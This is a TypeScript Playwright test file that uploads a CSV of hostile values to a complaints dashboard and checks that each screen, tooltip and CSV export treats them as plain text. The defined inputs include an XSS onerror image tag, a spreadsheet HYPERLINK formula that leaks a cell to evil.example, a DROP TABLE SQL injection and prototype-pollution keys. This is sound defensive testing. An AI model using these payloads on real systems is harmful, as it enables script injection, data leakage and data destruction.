/** Data that would like to be more than data: it is shown as the text it is. */
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { openStage, ready, type Stage } from './browser.ts';
import { complaintHeader, complaintsOf, csvText, upload, type Cells } from './month.ts';
import { figure, give, go, openRows, saved, tables, textOf } from './visit.ts';

const image = '<img src=x onerror="window.hacked=1">';
const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const name = `o'brien "x" 2026-09-02.csv`;

let stage: Stage;
let page: Page;
let context: BrowserContext;
let errors: string[];
beforeAll(async () => {
  stage = await openStage();
  ({ page, context, errors } = await stage.open('#/data'));
  const nasty = [image, formula, '__proto__', 'constructor', `'; DROP TABLE complaints; --`, '{n, plural}'];
  const rows = complaintsOf('2026-08', 30).map((row, i): Cells => {
    const text = nasty[i % nasty.length] ?? '';
    return [...row.with(7, text).with(8, text), text, text];
  });
  await give(page, [upload(name, csvText([[...complaintHeader, image, '__proto__'], ...rows]))]);
});
afterAll(async () => {
  await context.close();
  await stage.close();
});

/** Nothing that the file says became part of the page, and nothing of it ran. */
async function harmless(): Promise<void> {
  await ready(page);
  expect(await page.evaluate(() => (window as { hacked?: unknown }).hacked)).toBeUndefined();
  expect(await page.locator('img[src="x"], a[href^="http"], [onerror]').count()).toBe(0);
  expect(stage.foreign).toEqual([]);
  expect(errors).toEqual([]);
}

test('the file loads under its own name', async () => {
  expect(await tables(page)).toMatchObject([{ file: name, kind: 'complaints', read: 30, used: 30 }]);
  await page.locator('[data-file]').getByRole('button', { expanded: false }).click();
  expect(await textOf(page)).toContain(image);
  await harmless();
});

test('every screen shows it as text', async () => {
  for (const route of ['overview', 'complaints', 'satisfaction', 'callbacks', 'staff', 'calls', 'report', 'settings']) {
    await go(page, route);
    await harmless();
  }
  await go(page, 'complaints');
  expect((await figure(page, 'C01')).value).toBe(30);
});

test('a tooltip holds the text and nothing else', async () => {
  const canvas = page.locator('[data-chart="complaints-branch"] canvas').first();
  await canvas.scrollIntoViewIfNeeded();
  const box = await canvas.boundingBox();
  if (!box) throw new Error('no chart');
  const seen: string[] = [];
  for (let y = 10; y < box.height; y += 12) {
    await page.mouse.move(box.x + box.width * 0.45, box.y + y);
    await page.waitForTimeout(30);
    seen.push(await page.locator('[data-chart="complaints-branch"] .chart').innerText());
  }
  // a space without width keeps such a name from being a key of the drawing library
  expect(seen.join('\n').replaceAll('\u200b', '')).toContain('__proto__');
  await harmless();
});

test('it filters, and is exported without a formula', async () => {
  await page.getByRole('button', { name: '筛选' }).click();
  await page.locator('.pop').getByRole('button', { name: '机构', exact: true }).click();
  await page.getByRole('checkbox', { name: formula }).check();
  await page.keyboard.press('Escape');
  await ready(page);
  expect((await figure(page, 'C01')).value).toBe(5);
  expect(await openRows(page, 'C01')).toBe(5);
  const drawer = page.getByTestId('rows-drawer');
  const { bytes } = await saved(page, () => drawer.getByRole('button', { name: 'CSV' }).click());
  const cells = Papa.parse<string[]>(bytes.toString('utf8').replace('\ufeff', '')).data.flat();
  expect(cells.filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThan(0);
  expect(cells.filter((cell) => /^\s*[=@+]/.test(cell))).toEqual([]);
  await harmless();
});
